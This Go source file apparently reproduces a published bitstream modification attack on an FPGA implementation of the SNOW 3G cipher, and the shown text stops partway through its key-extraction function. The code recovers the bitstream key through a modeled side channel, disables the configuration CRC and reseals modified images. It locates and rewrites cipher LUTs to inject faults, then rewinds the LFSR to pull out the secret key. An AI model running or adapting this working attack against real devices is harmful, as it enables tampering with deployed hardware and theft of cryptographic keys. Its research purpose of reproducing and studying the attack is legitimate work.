package core

import (
	"context"
	"errors"
	"fmt"
	"math/bits"

	"snowbma/internal/bitstream"
	"snowbma/internal/boolfn"
	"snowbma/internal/device"
	"snowbma/internal/hdl"
	"snowbma/internal/obs"
	"snowbma/internal/snow3g"
)

// Victim is the attacker's view of the device under attack (Section
// IV-A): physical access to the configuration flash, the documented
// cipher I/O protocol, and — for encrypted bitstreams — a side-channel
// key recovery standing in for [16]–[18]. Nothing else: the attack never
// sees the netlist.
type Victim interface {
	Load([]byte) error
	SetInput(name string, v bool)
	Clock()
	Read(name string) bool
	ReadFlash() []byte
	SideChannelKey() [bitstream.KeySize]byte
}

// ConfirmedLUT records one verified target LUT and the keystream bit it
// drives.
type ConfirmedLUT struct {
	Match Match
	Bit   int
	// KeepVar is the f2 XOR-trio variable identified as s0 by the
	// key-independent procedure (z-path LUTs only).
	KeepVar int
}

// CandidateCount is one row of the Table II / Table VI analogue.
type CandidateCount struct {
	Name  string
	Path  string
	Expr  string
	Count int
}

// Report accumulates everything the attack observed and produced.
type Report struct {
	Encrypted      bool
	CandidateTable []CandidateCount
	CleanKeystream []uint32
	LUT1           []ConfirmedLUT
	LUT2           []Match
	LUT3           []Match
	MuxMatches     int
	MuxHypothesis  string
	KeyIndependent []uint32 // Table III analogue
	FaultyFinal    []uint32 // Table IV analogue
	RecoveredS0    snow3g.State
	Key            snow3g.Key
	IV             snow3g.IV
	Loads          int
	Verified       bool
	// FeedbackPruned counts false-positive feedback candidates (surplus
	// over the 32-LUT hypothesis) excluded by the group-testing pass of
	// the key-independent check. Zero on the paper's design; random
	// placements occasionally produce an extra coincidental f8/f19
	// match elsewhere in the datapath.
	FeedbackPruned int
	// Scan aggregates the batch-scan observability counters over every
	// bitstream pass the attack performed (normally exactly one).
	Scan ScanStats
	// Batch aggregates the bitsliced candidate-sweep counters. Loads
	// models hardware reconfigurations and is invariant under the sweep
	// width; Batch.Passes counts what the simulator actually ran.
	Batch BatchStats
	// Fabric is the compiled flat-program summary of the victim's
	// loaded configuration (zero when the victim's simulator does not
	// expose one).
	Fabric device.CompileStats
}

// Attack drives the end-to-end bitstream modification attack.
type Attack struct {
	dev Victim
	iv  snow3g.IV
	// ctx is the attack's cancellation context (SetContext). checkpoint
	// consults it between phases and between candidate trials, so a
	// cancelled or timed-out run stops within one sweep chunk.
	ctx context.Context
	// log is the printf logger (nil-safe); NewAttack wraps a
	// legacy printf-style callback into one, preserving its signature.
	log *obs.Logger
	// tel is the optional telemetry handle: phase spans and the metrics
	// registry backing the report counters (SetTelemetry).
	tel *obs.Telemetry

	plain []byte // pristine plaintext packets
	env   *envelope
	rep   Report
	// recomputeCRC selects the paper's first Section V-B option
	// (recompute and replace the CRC on every modified copy) instead of
	// the default disable-once approach.
	recomputeCRC bool
	// clbStart is the byte offset of the first CLB frame, derived from
	// the packet structure. Matches for small-support functions (the
	// load MUXes) are pruned to slot-aligned positions: the frame layout
	// is public knowledge (prjxray, [14], [15]), and 3-input functions
	// otherwise drown in misaligned false positives.
	clbStart int
	// scanned memoizes batch-scan results per target function so every
	// attack step reads from one shared bitstream pass.
	scanned map[boolfn.TT][]Match
	// lanes is the candidate-sweep width: how many modified variants one
	// bitsliced simulator pass evaluates (SetLanes; 1 = scalar).
	lanes int
	// parsed and regions are the pristine image's packet structure and
	// frame layout, parsed once: candidate images are diffed against it
	// and their frame patches classified (nil when the image does not
	// parse, which leaves every candidate on the scalar path).
	parsed  *bitstream.Parsed
	regions *bitstream.Regions
	// baseLive is true while the victim device still holds the unmodified
	// base configuration from the previous fabric pass, letting the next
	// pass skip the base image decode (device.FPGA.BatchOf).
	baseLive bool
	// sealedBase is the encrypted victim's base image, sealed once on the
	// first fabric pass and reused by every later one.
	sealedBase []byte
}

type envelope struct {
	kE    [bitstream.KeySize]byte
	kA    [bitstream.KeySize]byte
	cbcIV [16]byte
}

// NewAttack probes the victim's flash and, if the image is encrypted,
// performs the decrypt/recover-K_A step of the attack model. iv is the
// initialization vector the attacker drives during keystream collection
// (any value works; it is recovered alongside the key as a check). logf
// may be nil.
func NewAttack(dev Victim, iv snow3g.IV, logf func(string, ...any)) (*Attack, error) {
	return NewAttackCRCMode(dev, iv, logf, false)
}

// NewAttackCRCMode selects how modified bitstreams pass the
// configuration CRC: recompute-and-replace (recompute = true) or the
// paper's preferred one-time disable (false). Both are Section V-B
// options; encrypted images ignore the choice (their CRC is disabled by
// default, integrity riding on the HMAC).
func NewAttackCRCMode(dev Victim, iv snow3g.IV, logf func(string, ...any), recompute bool) (*Attack, error) {
	a := &Attack{dev: dev, iv: iv, ctx: context.Background(), log: obs.NewFuncLogger(logf), recomputeCRC: recompute, lanes: DefaultLanes}
	a.rep.Batch.Width = a.lanes
	img := dev.ReadFlash()
	if len(img) == 0 {
		return nil, errors.New("core: empty flash image")
	}
	if bitstream.IsEncrypted(img) {
		a.rep.Encrypted = true
		kE := dev.SideChannelKey()
		var cbcIV [16]byte
		copy(cbcIV[:], img[4:20])
		plain, kA, _, err := bitstream.Open(img, kE)
		if err != nil {
			return nil, fmt.Errorf("core: decrypting bitstream: %w", err)
		}
		a.log.Infof("recovered bitstream key K_E via side channel; K_A read from plaintext copies")
		a.plain = plain
		a.env = &envelope{kE: kE, kA: kA, cbcIV: cbcIV}
	} else {
		a.plain = append([]byte(nil), img...)
		if a.recomputeCRC {
			a.log.Infof("CRC mode: recompute and replace on every modified copy")
		} else {
			// Section V-B: disable the configuration CRC once; every
			// modified copy derived from a.plain then loads without
			// recomputation.
			if err := bitstream.DisableCRC(a.plain); err != nil {
				return nil, fmt.Errorf("core: disabling CRC: %w", err)
			}
			a.log.Infof("configuration CRC disabled (0x30000001 + CRC word zeroed)")
		}
	}
	a.clbStart = -1
	if p, err := bitstream.ParsePackets(a.plain); err == nil {
		// The first FDRI frame is device configuration, CLB columns
		// follow — public floorplan knowledge.
		a.clbStart = p.FDRIOffset + bitstream.FrameBytes
		if regions, err := bitstream.ParseRegions(p.FDRI(a.plain)); err == nil {
			a.parsed, a.regions = p, regions
		}
	}
	return a, nil
}

// ErrCancelled reports that the attack's context was cancelled or timed
// out. The run stops at the next checkpoint — between phases or between
// candidate trials, i.e. within one sweep chunk — with no partial key in
// the report and the victim restored by the usual epilogue.
var ErrCancelled = errors.New("core: attack cancelled")

// SetContext attaches a cancellation context to the attack. A nil ctx
// restores the default (never cancelled). Call before Run; the attack
// observes cancellation at phase boundaries and between candidate
// trials, surfacing it as ErrCancelled.
func (a *Attack) SetContext(ctx context.Context) {
	if ctx == nil {
		ctx = context.Background()
	}
	a.ctx = ctx
}

// checkpoint is the attack's cancellation probe: a typed ErrCancelled
// when the context is done, nil otherwise. Placed between phases and
// between candidate consumptions — never inside a fabric pass — so an
// in-flight chunk always completes and accounting stays exact.
func (a *Attack) checkpoint() error {
	if err := a.ctx.Err(); err != nil {
		return fmt.Errorf("%w: %v", ErrCancelled, err)
	}
	return nil
}

// aligned reports whether a match sits on a valid LUT slot position of
// the CLB frames.
func (a *Attack) aligned(m Match) bool {
	if a.clbStart < 0 {
		return true
	}
	rel := m.Index - a.clbStart
	if rel < 0 {
		return false
	}
	off := rel % bitstream.FrameBytes
	return off%bitstream.SubVectorBytes == 0 && off < bitstream.SlotsPerFrame*bitstream.SubVectorBytes
}

// working returns a fresh modifiable copy of the plaintext packets.
func (a *Attack) working() []byte {
	return append([]byte(nil), a.plain...)
}

// runCandidate prepares candidate image b for the victim — resealed
// when the original was encrypted, its CRC recomputed in recompute mode
// — then loads it and collects n keystream words. It does NOT count a
// modeled hardware load; callers that consume a result do (loadAndRun
// and the sweep consumers), so speculative batch lanes never inflate
// Report.Loads.
func (a *Attack) runCandidate(b []byte, n int) ([]uint32, error) {
	img := b
	if a.env != nil {
		sealed, err := bitstream.Reseal(b, a.env.kE, a.env.kA, a.env.cbcIV)
		if err != nil {
			return nil, err
		}
		img = sealed
	} else if a.recomputeCRC {
		if err := bitstream.RecomputeCRC(b); err != nil {
			return nil, err
		}
	}
	a.baseLive = false // the victim now holds this candidate, not the base
	if err := a.dev.Load(img); err != nil {
		return nil, err
	}
	return a.sampleKeystream(n)
}

// ErrCorruptReconfig reports that a loaded candidate reconfigured into a
// fabric that no longer exposes the cipher's documented I/O protocol.
var ErrCorruptReconfig = errors.New("core: corrupted reconfiguration")

// sampleKeystream collects n keystream words from the configured victim.
// The attack's own patches only rewrite LUT content, never the design
// description, so the cipher's pin interface is invariant across every
// candidate it loads; a device that panics on a pin lookup here means
// the image was corrupted on the way to the configuration port, which
// must surface as a typed error, not take the attack down.
func (a *Attack) sampleKeystream(n int) (z []uint32, err error) {
	defer func() {
		if r := recover(); r != nil {
			z, err = nil, fmt.Errorf("%w: %v", ErrCorruptReconfig, r)
		}
	}()
	return hdl.GenerateKeystream(a.dev, a.iv, n), nil
}

// loadAndRun runs one counted hardware trial: candidate b is prepared,
// loaded and sampled, and on success contributes one modeled
// reconfiguration to Report.Loads.
func (a *Attack) loadAndRun(b []byte, n int) ([]uint32, error) {
	z, err := a.runCandidate(b, n)
	if err != nil {
		return nil, err
	}
	a.countLoad()
	return z, nil
}

// w is the keystream sample length used by every verification step (the
// paper uses w = 16, which also matches the 16 words key extraction
// needs).
const w = 16

// deadColumns returns the bit positions that are 0 in every word.
func deadColumns(z []uint32) uint32 {
	dead := ^uint32(0)
	for _, word := range z {
		dead &= ^word
	}
	return dead
}

// batchScan performs the attack's single bitstream pass: the complete
// Table II catalogue and every guessed load-MUX shape are compiled into
// one shared anchor index and resolved in one walk of the plaintext
// image. Every later step (candidate counting, z-path and feedback
// verification, MUX search) reads from this memo instead of re-scanning.
// The Section VII-B dual-XOR sweep is not part of the attack; Table VI
// runs it through FindDualXOR.
func (a *Attack) batchScan() {
	if a.scanned != nil {
		return
	}
	span := a.tel.StartSpan("attack.batch_scan")
	defer span.End()
	s := NewScanner(FindOptions{})
	s.SetTelemetry(a.tel)
	cands := boolfn.Candidates()
	for _, c := range cands {
		s.AddFunction(c.Name, c.TT)
	}
	muxes := muxCatalogue()
	for _, m := range muxes {
		s.AddFunction("mux:"+m.name, m.fn)
	}
	res := s.Scan(a.plain)
	a.scanned = make(map[boolfn.TT][]Match, len(cands)+len(muxes))
	for _, c := range cands {
		a.scanned[c.TT] = res.Matches[c.Name]
	}
	for _, m := range muxes {
		a.scanned[m.fn] = res.Matches["mux:"+m.name]
	}
	a.rep.Scan.Accumulate(res.Stats)
	span.SetAttr("functions", res.Stats.Functions)
	span.SetAttr("candidates_compiled", res.Stats.CandidatesCompiled)
	span.SetAttr("anchor_hits", res.Stats.AnchorHits)
	span.SetAttr("deep_compares", res.Stats.DeepCompares)
	a.publishStats()
	a.log.Infof("batch scan: %d functions in one pass (%d candidates, %d anchor hits, %d deep compares)",
		res.Stats.Functions, res.Stats.CandidatesCompiled, res.Stats.AnchorHits, res.Stats.DeepCompares)
}

// matchesFor returns the FINDLUT matches for f on the plaintext image,
// served from the memoized batch scan when f was part of one; functions
// outside every batch (callers probing ad-hoc guesses) fall back to a
// dedicated single-function pass and join the memo.
func (a *Attack) matchesFor(f boolfn.TT) []Match {
	if ms, ok := a.scanned[f]; ok {
		return ms
	}
	ms := FindLUT(a.plain, f, FindOptions{})
	if a.scanned == nil {
		a.scanned = map[boolfn.TT][]Match{}
	}
	a.scanned[f] = ms
	return ms
}

// CountCandidates reproduces the Table II measurement: the number of
// FINDLUT matches for every catalogue row on the current bitstream, all
// rows served from the shared single-pass batch scan.
func (a *Attack) CountCandidates() []CandidateCount {
	a.batchScan()
	var out []CandidateCount
	for _, c := range boolfn.Candidates() {
		n := len(a.matchesFor(c.TT))
		out = append(out, CandidateCount{Name: c.Name, Path: c.Path, Expr: c.Expr, Count: n})
	}
	a.rep.CandidateTable = out
	return out
}

// VerifyZPath implements Section VI-C.1: zero each f2 candidate in turn
// and keep those whose modification pins exactly one keystream bit
// column to 0 while leaving the others untouched. Overlapping candidates
// of confirmed LUTs are discarded (two valid LUTs cannot share bytes).
func (a *Attack) VerifyZPath() error {
	a.batchScan()
	return a.verifyZPathWith(boolfn.F2)
}

// verifyZPathWith runs the z-path verification for an arbitrary guessed
// (or census-discovered) candidate function.
func (a *Attack) verifyZPathWith(zfn boolfn.TT) error {
	span := a.tel.StartSpan("attack.verify_zpath")
	defer span.End()
	clean, err := a.loadAndRun(a.working(), w)
	if err != nil {
		return fmt.Errorf("core: baseline keystream: %w", err)
	}
	a.rep.CleanKeystream = clean
	cleanDead := deadColumns(clean)

	cands := a.matchesFor(zfn)
	span.SetAttr("candidates", len(cands))
	a.log.Infof("z_t path: %d f2 candidates", len(cands))
	// One sweep over all candidates: up to 64 zeroed-LUT variants share
	// each bitsliced fabric pass. Loads are counted on consumption so the
	// overlap pruning below keeps its scalar accounting.
	sw := a.newSweep(len(cands), w, func(i int, img []byte) {
		WriteMatch(img, cands[i], boolfn.Const0)
	})
	var confirmed []ConfirmedLUT
	for ci := 0; ci < len(cands); ci++ {
		if cerr := a.checkpoint(); cerr != nil {
			return cerr
		}
		m := cands[ci]
		if overlapsAny(m, confirmed, confirmedMatch) {
			continue
		}
		z, err := sw.run(ci)
		if err != nil {
			continue // candidate bricks configuration: not a target
		}
		a.countLoad()
		newDead := deadColumns(z) &^ cleanDead
		if bits.OnesCount32(newDead) != 1 {
			continue
		}
		bit := bits.TrailingZeros32(newDead)
		// All other columns must be unaffected.
		ok := true
		for t := range z {
			if (z[t]^clean[t])&^newDead != 0 {
				ok = false
				break
			}
		}
		if !ok {
			continue
		}
		confirmed = append(confirmed, ConfirmedLUT{Match: m, Bit: bit, KeepVar: -1})
	}
	a.tel.Publish(obs.EventProgress, "attack.verify_zpath", float64(len(confirmed)),
		obs.KV("candidates", len(cands)), obs.KV("confirmed", len(confirmed)),
		obs.KV("eliminated", len(cands)-len(confirmed)))
	if len(confirmed) != 32 {
		return fmt.Errorf("core: z path verification confirmed %d LUTs, want 32", len(confirmed))
	}
	span.SetAttr("confirmed", len(confirmed))
	a.rep.LUT1 = confirmed
	a.log.Infof("z_t path: confirmed 32 LUT1 instances")
	return nil
}

// CollectFeedbackCandidates implements Section VI-C.2: gather the f8 and
// f19 matches, discard any overlapping a confirmed LUT1, and check the
// 32-candidate hypothesis.
func (a *Attack) CollectFeedbackCandidates() error {
	span := a.tel.StartSpan("attack.collect_feedback")
	defer span.End()
	prune := func(ms []Match) []Match {
		var out []Match
		for _, m := range ms {
			if !overlapsAny(m, a.rep.LUT1, confirmedMatch) {
				out = append(out, m)
			}
		}
		return out
	}
	a.batchScan()
	l8 := prune(a.matchesFor(boolfn.F8))
	l19 := prune(a.matchesFor(boolfn.F19))
	span.SetAttr("f8", len(l8))
	span.SetAttr("f19", len(l19))
	a.log.Infof("feedback path: %d f8 + %d f19 candidates", len(l8), len(l19))
	if len(l8)+len(l19) < 32 {
		return fmt.Errorf("core: feedback candidates %d+%d != 32; hypothesis fails",
			len(l8), len(l19))
	}
	if surplus := len(l8) + len(l19) - 32; surplus > 0 {
		// A random placement can produce a coincidental extra match (a
		// real XOR LUT elsewhere in the datapath). Keep the surplus for
		// now: the key-independent check's group-testing pass excludes
		// the false positives behaviorally (resolveBeta prunes LUT2/LUT3
		// down to the surviving 32).
		a.log.Infof("feedback path: %d surplus candidates, deferring to behavioral pruning", surplus)
	}
	a.rep.LUT2, a.rep.LUT3 = l8, l19
	return nil
}

// muxSpec is one entry of the attack's load-MUX catalogue: the guessed
// function with fixed roles (a1 = control) and the two polarity
// hypotheses for which branch loads γ(K, IV).
type muxSpec struct {
	name     string
	fn       boolfn.TT
	zeroSel1 boolfn.TT // modification if γ loads when a1 = 1
	zeroSel0 boolfn.TT // modification if γ loads when a1 = 0
}

// muxCatalogue guesses the LFSR load MUX shapes from the block diagram:
// plain 2-to-1 MUXes for the key-constant stages (with either data
// polarity, since γ includes k ⊕ 1 terms) and MUX-of-XOR shapes for the
// stages mixing IV words (s9, s10, s12, s15).
func muxCatalogue() []muxSpec {
	mk := func(name, f, z1, z0 string) muxSpec {
		return muxSpec{name: name,
			fn:       boolfn.MustParse(f),
			zeroSel1: boolfn.MustParse(z1),
			zeroSel0: boolfn.MustParse(z0)}
	}
	return []muxSpec{
		mk("mux", "a1a2 + !a1a3", "!a1a3", "a1a2"),
		mk("mux-inv", "a1!a2 + !a1a3", "!a1a3", "a1!a2"),
		mk("mux-xor", "a1(a2^a3) + !a1a4", "!a1a4", "a1(a2^a3)"),
		mk("mux-xnor", "a1!(a2^a3) + !a1a4", "!a1a4", "a1!(a2^a3)"),
	}
}

// applyFeedbackAlpha injects the α₁ fault of eq. (1) into the feedback
// candidates: f8 → a6 and f19 → a3·a6, disconnecting the FSM from the
// LFSR.
func (a *Attack) applyFeedbackAlpha(b []byte) {
	for _, m := range a.rep.LUT2 {
		WriteMatch(b, m, boolfn.F8Alpha)
	}
	for _, m := range a.rep.LUT3 {
		WriteMatch(b, m, boolfn.F19Alpha)
	}
}

// betaState carries the discovered load-MUX modification set.
type betaState struct {
	matches []Match
	specs   []muxSpec
	sel1    bool
	// excluded counts candidates pruned by the group-testing fallback.
	excluded int
}

// MakeKeyIndependent implements Section VI-D.1/D.2: find the γ(K, IV)
// load MUXes, modify them to load the all-0 vector (fault β), combine
// with the feedback fault α₁, and confirm by comparing the observed
// keystream with the software model's key-independent keystream (the
// Table III criterion). Both polarity hypotheses for the MUX control are
// tried, as in the paper.
func (a *Attack) MakeKeyIndependent() (*betaState, error) {
	span := a.tel.StartSpan("attack.make_key_independent")
	defer span.End()
	a.batchScan()
	specs := muxCatalogue()
	var matches []Match
	var specOf []muxSpec
	for _, s := range specs {
		ms := a.matchesFor(s.fn)
		for _, m := range ms {
			if !a.aligned(m) {
				continue
			}
			if overlapsAny(m, a.rep.LUT1, confirmedMatch) ||
				overlapsAny(m, a.rep.LUT2, sameMatch) || overlapsAny(m, a.rep.LUT3, sameMatch) {
				continue
			}
			matches = append(matches, m)
			specOf = append(specOf, s)
		}
	}
	a.rep.MuxMatches = len(matches)
	span.SetAttr("mux_matches", len(matches))
	a.log.Infof("load-MUX search: %d matches across %d guessed shapes", len(matches), len(specs))
	if len(matches) < 16*32/2 { // at least the 15 plain stages must show up
		return nil, fmt.Errorf("core: only %d load-MUX candidates; design not recognized", len(matches))
	}

	return a.resolveBeta(matches, specOf)
}

// alphaWrite is one α₁ LUT rewrite of the key-independent probe — a
// feedback candidate paired with its fault table. Unlike the opaque
// applyAlpha callback of the census flow, individual writes are
// excludable by the group-testing pass, which is how surplus feedback
// candidates (CollectFeedbackCandidates) are pruned behaviorally.
type alphaWrite struct {
	m    Match
	repl boolfn.TT
	f8   bool
}

// resolveBeta finds a polarity hypothesis and a candidate subset whose
// modification yields the model's key-independent keystream. When the
// full set fails (a false-positive match whose "load branch" is real
// logic, or a surplus feedback candidate whose α₁ rewrite corrupts real
// datapath), a greedy group-testing pass excludes harmful candidates,
// using the number of matching keystream bits as the progress signal.
// Surviving feedback candidates are written back to LUT2/LUT3, which
// must total exactly 32 afterwards.
func (a *Attack) resolveBeta(matches []Match, specOf []muxSpec) (*betaState, error) {
	alphas := make([]alphaWrite, 0, len(a.rep.LUT2)+len(a.rep.LUT3))
	for _, m := range a.rep.LUT2 {
		alphas = append(alphas, alphaWrite{m: m, repl: boolfn.F8Alpha, f8: true})
	}
	for _, m := range a.rep.LUT3 {
		alphas = append(alphas, alphaWrite{m: m, repl: boolfn.F19Alpha})
	}
	return a.resolveBetaPruned(matches, specOf, nil, alphas)
}

// resolveBetaWith is resolveBeta with a caller-supplied α₁ application
// (the census-guided flow derives its fault tables generically and
// rejects bad feedback subsets wholesale, so its α set is opaque and
// never pruned).
func (a *Attack) resolveBetaWith(matches []Match, specOf []muxSpec, applyAlpha func([]byte)) (*betaState, error) {
	return a.resolveBetaPruned(matches, specOf, applyAlpha, nil)
}

// resolveBetaPruned is the shared implementation: exactly one of
// applyAlpha (opaque α₁ application) and alphas (excludable α₁ writes)
// is set. The group-testing index space covers the MUX candidates
// followed by the α writes.
func (a *Attack) resolveBetaPruned(matches []Match, specOf []muxSpec, applyAlpha func([]byte), alphas []alphaWrite) (*betaState, error) {
	span := a.tel.StartSpan("attack.resolve_beta", obs.KV("candidates", len(matches)))
	defer span.End()
	// Expected key-independent keystream from the software model
	// (Section VI-D: LFSR all-0, FSM output stuck at 0 during init).
	model := snow3g.New(snow3g.Fault{FSMStuckInit: true, LFSRZeroLoad: true})
	model.Init(snow3g.Key{}, snow3g.IV{})
	want := model.KeystreamWords(w)

	// apply writes one candidate modification set: every non-excluded
	// alpha write plus every non-excluded MUX zeroing under the sel1
	// hypothesis.
	apply := func(img []byte, sel1 bool, skip map[int]bool, excl int) {
		if applyAlpha != nil {
			applyAlpha(img)
		}
		for j, aw := range alphas {
			if k := len(matches) + j; skip[k] || k == excl {
				continue
			}
			WriteMatch(img, aw.m, aw.repl)
		}
		for i, m := range matches {
			if skip[i] || i == excl {
				continue
			}
			repl := specOf[i].zeroSel1
			if !sel1 {
				repl = specOf[i].zeroSel0
			}
			WriteMatch(img, m, repl)
		}
	}
	score := func(z []uint32) int {
		s := 0
		for t := range want {
			s += 32 - bits.OnesCount32(z[t]^want[t])
		}
		return s
	}
	perfect := 32 * w

	finish := func(sel1 bool, skip map[int]bool, z []uint32) (*betaState, error) {
		if sel1 {
			a.rep.MuxHypothesis = "γ loaded when control = 1"
		} else {
			a.rep.MuxHypothesis = "γ loaded when control = 0"
		}
		a.rep.KeyIndependent = z
		kept := make([]Match, 0, len(matches))
		keptSpecs := make([]muxSpec, 0, len(matches))
		for i := range matches {
			if !skip[i] {
				kept = append(kept, matches[i])
				keptSpecs = append(keptSpecs, specOf[i])
			}
		}
		if alphas != nil {
			surviving := 0
			for j := range alphas {
				if !skip[len(matches)+j] {
					surviving++
				}
			}
			// A surplus candidate whose α₁ rewrite is behaviorally
			// neutral under β+α (say, a coincidental match inside FSM
			// logic the fault already disconnects) survives the greedy
			// pass because it never hurts the score. Prune those by
			// necessity instead: a true feedback LUT cannot be excluded
			// without breaking the model match, a neutral one can.
			for j := range alphas {
				if surviving <= 32 {
					break
				}
				if cerr := a.checkpoint(); cerr != nil {
					return nil, cerr
				}
				k := len(matches) + j
				if skip[k] {
					continue
				}
				sw := a.newSweep(1, w, func(_ int, img []byte) { apply(img, sel1, skip, k) })
				z2, err := sw.run(0)
				if err != nil {
					continue
				}
				a.countLoad()
				if score(z2) == perfect {
					skip[k] = true
					surviving--
					a.log.Infof("feedback pruning: excluding unnecessary candidate at byte %d", alphas[j].m.Index)
				}
			}
			// Write the surviving α candidates back as the attack's
			// feedback LUT sets; the 32-LUT hypothesis must hold now
			// that the false positives are excluded.
			l2 := a.rep.LUT2[:0]
			l3 := a.rep.LUT3[:0]
			pruned := 0
			for j, aw := range alphas {
				if skip[len(matches)+j] {
					pruned++
					continue
				}
				if aw.f8 {
					l2 = append(l2, aw.m)
				} else {
					l3 = append(l3, aw.m)
				}
			}
			a.rep.LUT2, a.rep.LUT3 = l2, l3
			a.rep.FeedbackPruned = pruned
			a.tel.Counter("attack.feedback_pruned").Add(int64(pruned))
			if len(l2)+len(l3) != 32 {
				return nil, fmt.Errorf("core: feedback pruning left %d+%d candidates, want 32",
					len(l2), len(l3))
			}
		}
		span.SetAttr("hypothesis", a.rep.MuxHypothesis)
		span.SetAttr("excluded", len(skip))
		a.tel.Publish(obs.EventProgress, "attack.resolve_beta", float64(len(kept)),
			obs.KV("candidates", len(matches)), obs.KV("survivors", len(kept)),
			obs.KV("eliminated", len(skip)))
		a.log.Infof("key-independent keystream confirmed against software model (%s, %d candidates excluded)",
			a.rep.MuxHypothesis, len(skip))
		return &betaState{matches: kept, specs: keptSpecs, sel1: sel1, excluded: len(skip)}, nil
	}

	// Both polarity hypotheses ride one sweep (a single fabric pass in
	// batch mode); a perfect hypothesis-1 score consumes only lane 0 and
	// counts exactly one load, as the scalar sequence would.
	bestScore := -1
	bestSel1 := true
	hyp := []bool{true, false}
	swHyp := a.newSweep(len(hyp), w, func(i int, img []byte) {
		apply(img, hyp[i], nil, -1)
	})
	for i, sel1 := range hyp {
		if cerr := a.checkpoint(); cerr != nil {
			return nil, cerr
		}
		z, err := swHyp.run(i)
		s := -1
		if err == nil {
			a.countLoad()
			s = score(z)
		}
		if s == perfect {
			return finish(sel1, map[int]bool{}, z)
		}
		if s > bestScore {
			bestScore, bestSel1 = s, sel1
		}
	}

	// Group-testing fallback under the better hypothesis: repeatedly
	// exclude the candidate whose removal recovers the most keystream
	// bits. Bounded at 8 exclusions — more indicates a wrong design
	// hypothesis rather than stray false positives. Each round is one
	// sweep over the remaining candidates (the skip set is stable while
	// a round's lanes are evaluated), consumed in scalar trial order.
	skip := map[int]bool{}
	for round := 0; round < 8; round++ {
		var idxs []int
		for i := 0; i < len(matches)+len(alphas); i++ {
			if !skip[i] {
				idxs = append(idxs, i)
			}
		}
		sw := a.newSweep(len(idxs), w, func(k int, img []byte) {
			apply(img, bestSel1, skip, idxs[k])
		})
		bestIdx, bestGain := -1, 0
		for k, i := range idxs {
			if cerr := a.checkpoint(); cerr != nil {
				return nil, cerr
			}
			z, err := sw.run(k)
			s := -1
			if err == nil {
				a.countLoad()
				s = score(z)
			}
			if s == perfect {
				skip[i] = true
				return finish(bestSel1, skip, z)
			}
			if gain := s - bestScore; gain > bestGain {
				bestIdx, bestGain = i, gain
			}
		}
		if bestIdx < 0 {
			break
		}
		skip[bestIdx] = true
		bestScore += bestGain
		if bestIdx < len(matches) {
			a.log.Infof("group test: excluding harmful MUX candidate at byte %d (+%d keystream bits)",
				matches[bestIdx].Index, bestGain)
		} else {
			a.log.Infof("group test: excluding false-positive feedback candidate at byte %d (+%d keystream bits)",
				alphas[bestIdx-len(matches)].m.Index, bestGain)
		}
	}
	return nil, errors.New("core: key-independent keystream never matched the model; MUX identification failed")
}

// IdentifyVPairs implements Section VI-D.1's two-keystream trick: with
// β and α₁ in place, rewrite every confirmed LUT1 keeping one variable
// of the XOR trio and observe which bit columns die. Columns going dead
// when variable v is kept have s0 on that pin; two runs classify all 32
// LUTs (the third case follows by elimination), instead of 3^32 trials.
func (a *Attack) IdentifyVPairs(beta *betaState) error {
	return a.identifyVPairsWith(beta, a.applyFeedbackAlpha, boolfn.F2AlphaKeep)
}

// identifyVPairsWith runs the two-keystream pin identification with
// caller-supplied α₁ application and keep-variable fault tables.
func (a *Attack) identifyVPairsWith(beta *betaState, applyAlpha func([]byte), keepFn func(int) boolfn.TT) error {
	span := a.tel.StartSpan("attack.identify_vpairs", obs.KV("luts", len(a.rep.LUT1)))
	defer span.End()
	resolved := make([]int, len(a.rep.LUT1))
	for i := range resolved {
		resolved[i] = -1
	}
	if cerr := a.checkpoint(); cerr != nil {
		return cerr
	}
	// The two probes differ only in the kept variable: one sweep, one
	// fabric pass in batch mode.
	sw := a.newSweep(2, w, func(keep int, img []byte) {
		applyAlpha(img)
		for i, m := range beta.matches {
			repl := beta.specs[i].zeroSel1
			if !beta.sel1 {
				repl = beta.specs[i].zeroSel0
			}
			WriteMatch(img, m, repl)
		}
		for _, c := range a.rep.LUT1 {
			WriteMatch(img, c.Match, keepFn(keep))
		}
	})
	for keep := 0; keep <= 1; keep++ {
		z, err := sw.run(keep)
		if err != nil {
			return fmt.Errorf("core: v-pair probe %d: %w", keep, err)
		}
		a.countLoad()
		dead := deadColumns(z)
		for li := range a.rep.LUT1 {
			if resolved[li] == -1 && dead>>uint(a.rep.LUT1[li].Bit)&1 == 1 {
				resolved[li] = keep
			}
		}
	}
	for li := range a.rep.LUT1 {
		if resolved[li] == -1 {
			resolved[li] = 2 // by elimination
		}
		a.rep.LUT1[li].KeepVar = resolved[li]
	}
	a.log.Infof("v-pair identification finished with 2 keystream computations (3^32 avoided)")
	return nil
}

// ExtractKey implements Section VI-D.3: inject α into all of LUT1, LUT2
// and LUT3 on a fresh copy (real γ load this time), collect 16 keystream
// words — the LFSR state S³³ — rewind 33 linear steps and read the key
// out of S⁰. The result is verified by reproducing the device's clean
// keystream with the software model.
func (a *Attack) ExtractKey() error {
	return a.extractKeyWith(a.applyFeedbackAlpha, boolfn.F2AlphaKeep)
}

// extractKeyWith is ExtractKey with caller-supplied fault tables.
func (a *Attack) extractKeyWith(applyAlpha func([]byte), keepFn func(int) boolfn.TT) error {
	span := a.tel.StartSpan("attack.extract_key")
	defer span.End()
	if cerr := a.checkpoint(); cerr != nil {
		return cerr
	}
	sw := a.newSweep(1, w, func(_ int, img []byte) {
		applyAlpha(img)
		for _, c := range a.rep.LUT1 {
			WriteMatch(img, c.Match, keepFn(c.KeepVar))
		}
	})
	z, err := sw.run(0)
	if err != nil {
		return fmt.Errorf("core: faulty keystream: %w", err)
	}
	a.countLoad()
	// A cancellation racing the final sweep must not surface a key: a
	// cancelled run's contract is ErrCancelled and an empty key, never a
	// partial (or even complete) secret.
	if cerr := a.checkpoint(); cerr != nil {
		return cerr
	}
	a.rep.FaultyFinal = z
	key, iv, s0, err := snow3g.RecoverFromKeystream(z)
	if err != nil {
		return fmt.Errorf("core: LFSR rewind: %w", err)
	}
	a.rep.Key, a.rep.IV, a.rep.RecoveredS0 = key, iv, s0
	if iv != a.iv {
		return fmt.Errorf("core: recovered IV %08x does not match driven IV %08x", iv, a.iv)
	}
	// Final check (Section IV-C step 6): the software model keyed with
	// the recovered key must reproduce the clean device keystream.
	model := snow3g.New(snow3g.Fault{})
	model.Init(key, a.iv)
	sim := model.KeystreamWords(len(a.rep.CleanKeystream))
	for t := range sim {
		if sim[t] != a.rep.CleanKeystream[t] {
			return fmt.Errorf("core: recovered key fails keystream check at word %d", t+1)
		}
	}
	a.rep.Verified = true
	span.SetAttr("verified", true)
